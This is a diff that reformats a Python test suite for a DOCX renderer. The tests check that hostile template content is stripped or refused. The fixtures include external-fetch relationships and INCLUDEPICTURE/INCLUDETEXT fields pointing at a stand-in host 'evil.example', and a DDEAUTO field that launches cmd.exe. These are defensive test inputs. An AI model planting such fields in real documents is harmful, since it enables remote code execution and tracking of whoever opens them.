@@ -23,18 +23,26 @@ from tests.helpers import TEMPLATE
 from tests.writers.sample_document import sample_document
 
 EVIL = "evil.example"
-EXTERNAL_IMAGE = (f'<Relationship Id="rIdEvil1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                  f'relationships/image" Target="http://{EVIL}/beacon.png" TargetMode="External"/>')
-ATTACHED = (f'<Relationship Id="rIdEvil2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-            f'relationships/attachedTemplate" Target="https://{EVIL}/template.dotm" TargetMode="External"/>')
-SIMPLE_FIELDS = (f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/pixel.png&quot; \\d "><w:r><w:t>pic</w:t>'
-                 f'</w:r></w:fldSimple><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\{EVIL}\\\\share\\\\x.docx&quot; ">'
-                 '<w:r><w:t>included</w:t></w:r></w:fldSimple>')
+EXTERNAL_IMAGE = (
+    f'<Relationship Id="rIdEvil1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    f'relationships/image" Target="http://{EVIL}/beacon.png" TargetMode="External"/>'
+)
+ATTACHED = (
+    f'<Relationship Id="rIdEvil2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    f'relationships/attachedTemplate" Target="https://{EVIL}/template.dotm" TargetMode="External"/>'
+)
+SIMPLE_FIELDS = (
+    f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://{EVIL}/pixel.png&quot; \\d "><w:r><w:t>pic</w:t>'
+    f'</w:r></w:fldSimple><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\{EVIL}\\\\share\\\\x.docx&quot; ">'
+    "<w:r><w:t>included</w:t></w:r></w:fldSimple>"
+)
 # DDEAUTO split over two instrText runs, as Word writes long instructions
-COMPLEX_FIELD = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText>'
-                 '</w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
-                 '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>harmless result</w:t>'
-                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+COMPLEX_FIELD = (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText>'
+    '</w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
+    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>harmless result</w:t>'
+    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+)
 
 
 def default_reference() -> bytes:
@@ -63,20 +71,32 @@ def template_with(tmp_path, data: bytes):
 
 def hostile(parts: dict[str, bytes]) -> None:
     rels = parts["word/_rels/document.xml.rels"].decode()
-    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", EXTERNAL_IMAGE + "</Relationships>").encode()
+    parts["word/_rels/document.xml.rels"] = rels.replace(
+        "</Relationships>", EXTERNAL_IMAGE + "</Relationships>"
+    ).encode()
     settings = parts["word/settings.xml"].decode()
-    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdEvil2"/>'
-                      r'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdEvil3"/>'
-                      r'</w:mailMerge>', settings, count=1)
+    settings = re.sub(
+        r"(<w:settings[^>]*>)",
+        r'\1<w:attachedTemplate r:id="rIdEvil2"/>'
+        r'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdEvil3"/>'
+        r"</w:mailMerge>",
+        settings,
+        count=1,
+    )
     if "xmlns:r=" not in settings.split(">", 2)[1]:
-        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
-                                    'officeDocument/2006/relationships" ', 1)
+        settings = settings.replace(
+            "<w:settings ",
+            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+            1,
+        )
     parts["word/settings.xml"] = settings.encode()
     parts["word/_rels/settings.xml.rels"] = (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
-        'openxmlformats.org/package/2006/relationships">' + ATTACHED +
-        f'<Relationship Id="rIdEvil3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        f'mailMergeSource" Target="file:///{EVIL}/data.xlsx" TargetMode="External"/></Relationships>').encode()
+        'openxmlformats.org/package/2006/relationships">'
+        + ATTACHED
+        + f'<Relationship Id="rIdEvil3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'mailMergeSource" Target="file:///{EVIL}/data.xlsx" TargetMode="External"/></Relationships>'
+    ).encode()
     for name in [n for n in parts if re.fullmatch(r"word/(header|footer)\d+\.xml", n)]:
         body = parts[name].decode()
         parts[name] = body.replace("</w:p>", SIMPLE_FIELDS + COMPLEX_FIELD + "</w:p>", 1).encode()
@@ -88,8 +108,17 @@ def test_fields_links_and_attached_templates_that_fetch_or_run_are_dropped_with_
         out = render_docx(sample_document(draft=False), folder)
     with zipfile.ZipFile(io.BytesIO(out)) as zf:
         text = b"".join(zf.read(name) for name in zf.namelist()).decode("utf-8", "replace")
-    for gone in (EVIL, "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "DDE", "cmd.exe", "attachedTemplate",
-                 "mailMerge", 'TargetMode="External"'):
+    for gone in (
+        EVIL,
+        "INCLUDEPICTURE",
+        "INCLUDETEXT",
+        "DDEAUTO",
+        "DDE",
+        "cmd.exe",
+        "attachedTemplate",
+        "mailMerge",
+        'TargetMode="External"',
+    ):
         assert gone not in text, gone
     assert "harmless result" in text  # a dropped field's last result stays as plain text
     assert " PAGE " in text  # harmless fields of the reference document are kept
@@ -105,12 +134,23 @@ def test_a_clean_reference_document_passes_unchanged():
     assert clean_reference(data, "reference.docx") == (data, [])
 
 
-@pytest.mark.parametrize("what, change", [
-    ("vbaProject", lambda p: p.update({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})),
-    ("macroEnabled", lambda p: p.update({"[Content_Types].xml": p["[Content_Types].xml"].replace(
-        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")})),
-    ("activeX", lambda p: p.update({"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"})),
-])
+@pytest.mark.parametrize(
+    "what, change",
+    [
+        ("vbaProject", lambda p: p.update({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})),
+        (
+            "macroEnabled",
+            lambda p: p.update(
+                {
+                    "[Content_Types].xml": p["[Content_Types].xml"].replace(
+                        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
+                    )
+                }
+            ),
+        ),
+        ("activeX", lambda p: p.update({"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"})),
+    ],
+)
 def test_macros_and_activex_are_refused(tmp_path, what, change):
     folder = template_with(tmp_path, rebuild(default_reference(), change))
     with pytest.raises(TemplateError, match="macro|embedded"):
